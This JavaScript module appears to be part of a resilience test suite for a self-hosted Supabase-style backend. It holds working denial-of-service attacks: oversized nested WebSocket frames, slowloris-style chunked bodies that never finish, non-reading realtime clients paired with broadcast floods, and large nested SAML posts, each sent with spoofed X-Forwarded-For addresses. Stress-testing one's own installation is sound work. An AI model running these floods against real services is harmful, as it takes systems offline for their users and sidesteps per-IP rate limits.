/** Attacks on the connections themselves: huge frames, bodies that do not arrive, and answers that nobody reads. */

import { request } from "node:http";
import { WebSocket } from "ws";
import { sleep } from "../installation/tools.ts";

const MB = 1024 * 1024;
/** Connections of one attack. */
const CONNECTIONS = 60;

/** Texts of one frame just below the limit: many values, deep ones, long names, one long text. */
const FRAMES = [
  `[null,"1","realtime:x","presence",[${"{},".repeat(5 * MB)}{}]]`,
  `[null,"1","realtime:x","presence",${"[".repeat(7 * MB)}${"]".repeat(7 * MB)}]`,
  `["1","1","realtime:canvas-room","broadcast",{"type":"broadcast","event":"e","payload":[${"[],".repeat(5 * MB)}[]]}]`,
  `[null,"1","realtime:x","phx_join",{"a":"${"\\u0000".repeat(2 * MB)}"}]`,
  `{"topic":"realtime:x","event":"presence","ref":"1","payload":{${'"a":{},'.repeat(2 * MB)}"b":1}}`,
];

/** @param {string} address @param {number} at */
async function sendFrames(address, at) {
  for (let count = at; ; count++) {
    const socket = new WebSocket(address, {
      headers: { "x-forwarded-for": `203.0.113.${at % 250}` },
    });
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => {});
    socket.once("open", () => socket.send(FRAMES[count % FRAMES.length] ?? ""));
    await Promise.race([closed, sleep(2_000)]);
    socket.terminate();
  }
}

/** A body of which one byte arrives. @param {string} url @param {string} key @param {number} at */
async function hold(url, key, at) {
  for (;;) {
    const sent = request(url, {
      method: "PATCH",
      agent: false,
      headers: {
        "content-type": "application/json",
        apikey: key,
        "transfer-encoding": "chunked",
        "x-forwarded-for": `203.0.113.${at % 16}`,
      },
    });
    const closed = new Promise((resolve) => sent.once("close", resolve));
    sent.on("error", () => {});
    sent.write("{");
    await closed;
    await sleep(20);
  }
}

/** Joins, and reads nothing of what comes. @param {string} address */
async function joinDeaf(address) {
  for (;;) {
    const socket = new WebSocket(address, { headers: { "x-forwarded-for": "203.0.113.1" } });
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => {});
    socket.once("open", () => {
      socket.send(JSON.stringify(["1", "1", "realtime:canvas-room", "phx_join", {}]));
      socket.pause();
    });
    await closed;
    await sleep(100);
  }
}

/** @param {(at: number) => Promise<void>} one */
const many = (one, count = CONNECTIONS) =>
  Promise.all(Array.from({ length: count }, (_, at) => one(at)));

/**
 * The attacks by their names.
 *
 * @param {string} url @param {string} key @param {string} address
 * @returns {Readonly<Record<string, () => Promise<unknown>>>}
 */
export function connectionAttacksOn(url, key, address) {
  const message = JSON.stringify({
    messages: [{ topic: "canvas-room", event: "note", payload: { text: "x".repeat(100_000) } }],
  });
  const saml = new URLSearchParams({
    SAMLResponse: Buffer.from(`<a>${"<a/>".repeat(30_000)}</a>`).toString("base64"),
  }).toString();
  /** @param {string} path @param {string} type @param {string} body */
  const post = async (path, type, body) => {
    for (;;)
      await fetch(url + path, {
        method: "POST",
        headers: { "content-type": type, apikey: key, "x-forwarded-for": "203.0.113.9" },
        body,
      })
        .then((answer) => answer.arrayBuffer())
        .catch(() => sleep(5));
  };
  const form = "application/x-www-form-urlencoded";
  return {
    "frames of 16 MB": () => many((at) => sendFrames(address, at), 4),
    "bodies that do not arrive": () =>
      many((at) => hold(`${url}/rest/v1/canvas_state?version=lt.0`, key, at)),
    "clients that never read": () =>
      Promise.all([
        many(() => joinDeaf(address)),
        many(() => post("/realtime/v1/api/broadcast", "application/json", message), 4),
      ]),
    "SAML posts": () => many(() => post("/auth/v1/sso/saml/acs", form, saml), 10),
  };
}
